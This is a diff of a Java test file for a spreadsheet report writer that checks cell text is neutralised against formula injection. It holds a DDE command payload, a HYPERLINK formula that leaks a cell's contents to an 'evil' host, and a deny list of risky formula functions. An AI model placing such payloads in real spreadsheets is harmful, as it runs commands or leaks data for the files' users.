@@ -1,10 +1,13 @@
 package io.quittance.report.xlsx;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import io.quittance.report.FindingRow;
+import io.quittance.report.WorkbookModel;
 import java.io.ByteArrayInputStream;
 import java.io.IOException;
+import java.io.OutputStream;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.HashMap;
@@ -63,8 +66,18 @@ class XlsxWriterTest {
             file.forEach(sheet -> names.add(sheet.getSheetName()));
             assertThat(names)
                     .containsExactly(
-                            "About", "Checks", "Summary", "Payments", "Invoices", "FX", "VAT", "Ledger", "BankRec",
-                            "OpenItems", "Held", "Rejected");
+                            "About",
+                            "Checks",
+                            "Summary",
+                            "Payments",
+                            "Invoices",
+                            "FX",
+                            "VAT",
+                            "Ledger",
+                            "BankRec",
+                            "OpenItems",
+                            "Held",
+                            "Rejected");
         }
     }
 
@@ -77,9 +90,12 @@ class XlsxWriterTest {
                     texts.put(cell.getStringCellValue(), (XSSFCell) cell);
                 }
             })));
-            assertThat(texts).containsKeys("=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "=HYPERLINK(\"http://evil/\"&A1)", "␉=1+1");
-            assertThat(texts.get("=cmd|' /C calc'!A0").getCellStyle().getQuotePrefixed()).isTrue();
-            assertThat(texts.get("Ana Ribeiro").getCellStyle().getQuotePrefixed()).isFalse();
+            assertThat(texts)
+                    .containsKeys("=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "=HYPERLINK(\"http://evil/\"&A1)", "␉=1+1");
+            assertThat(texts.get("=cmd|' /C calc'!A0").getCellStyle().getQuotePrefixed())
+                    .isTrue();
+            assertThat(texts.get("Ana Ribeiro").getCellStyle().getQuotePrefixed())
+                    .isFalse();
         }
     }
 
@@ -91,7 +107,8 @@ class XlsxWriterTest {
                 if (cell.getCellType() == CellType.FORMULA) {
                     assertThat(cell.getCellFormula())
                             .doesNotContainIgnoringCase("HYPERLINK", "WEBSERVICE", "cmd", "[", "http")
-                            .matches("(AND\\(ALL_OK\\)|AS_OF-E\\d+|[A-Z]+\\d+|[A-Z]+\\d+([+][A-Z]+\\d+)+|0|-?(SUM|SUMIFS|COUNTIF|COUNTIFS|ROUND|IF)\\(.*)");
+                            .matches(
+                                    "(ALL_OK|AS_OF-E\\d+|[A-Z]+\\d+|[A-Z]+\\d+([+][A-Z]+\\d+)+|0|-?(SUM|SUMIFS|COUNTIF|COUNTIFS|ROUND|IF)\\(.*)");
                 }
             })));
         }
@@ -101,7 +118,9 @@ class XlsxWriterTest {
         var books = SampleBooks.of(1);
         FindingRow row = books.rejected.getFirst();
         books.rejected.set(
-                0, new FindingRow(row.invoice(), row.entity(), "\t=1+1", "=HYPERLINK(\"http://evil/\"&A1)", row.finding()));
+                0,
+                new FindingRow(
+                        row.invoice(), row.entity(), "\t=1+1", "=HYPERLINK(\"http://evil/\"&A1)", row.finding()));
         return books;
     }
 
@@ -184,7 +203,8 @@ class XlsxWriterTest {
             assertThat(payments.getRepeatingRows().formatAsString()).isEqualTo("1:1");
             assertThat(payments.getFooter().getCenter()).isEqualTo("Page &P of &N");
             assertThat(payments.getFooter().getRight()).isEqualTo("6f1d0c7be2a94c53");
-            assertThat(payments.getPaneInformation().getHorizontalSplitPosition()).isEqualTo((short) 1);
+            assertThat(payments.getPaneInformation().getHorizontalSplitPosition())
+                    .isEqualTo((short) 1);
             assertThat(payments.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:P8");
             assertThat(file.getPrintArea(file.getSheetIndex(payments))).isEqualTo("Payments!$A$1:$O$15");
         }
@@ -207,6 +227,26 @@ class XlsxWriterTest {
         assertThat(dump).anyMatch(line -> line.matches("Checks!C1 .* truth true"));
     }
 
+    /** POI writes a stray character there; see {@link StreamedFile}. */
+    @Test
+    void nothingStandsBetweenAFormulaAndItsValue() throws IOException {
+        assertThat(sheet(2))
+                .containsPattern("<c r=\"C1\" s=\"\\d+\" t=\"b\"><f>[^<]*</f><v>1</v></c>")
+                .doesNotContain("</f>>");
+        assertThat(sheet(1)).contains("<f>ALL_OK</f><v>1</v>");
+    }
+
+    private static String sheet(int number) throws IOException {
+        try (var zip = new ZipInputStream(new ByteArrayInputStream(SAMPLE.bytes()))) {
+            for (var entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
+                if (entry.getName().equals("xl/worksheets/sheet" + number + ".xml")) {
+                    return new String(zip.readAllBytes(), StandardCharsets.UTF_8);
+                }
+            }
+        }
+        throw new IllegalStateException("no sheet " + number);
+    }
+
     @Test
     void textsAreInlineAndCannotBeSharedByMistake() throws IOException {
         try (var zip = new ZipInputStream(new ByteArrayInputStream(SAMPLE.bytes()))) {
@@ -218,5 +258,14 @@ class XlsxWriterTest {
                 }
             }
         }
+    }
+
+    /** What does not fit must say so, not vanish. */
+    @Test
+    void moreLinesThanASheetHoldsAreRefused() {
+        assertThatThrownBy(() ->
+                        XlsxWriter.write(WorkbookModel.of(new LargeBooks(50)), OutputStream.nullOutputStream(), 50))
+                .isInstanceOf(IllegalStateException.class)
+                .hasMessageContaining("Ledger needs more than 50 rows");
     }
 }
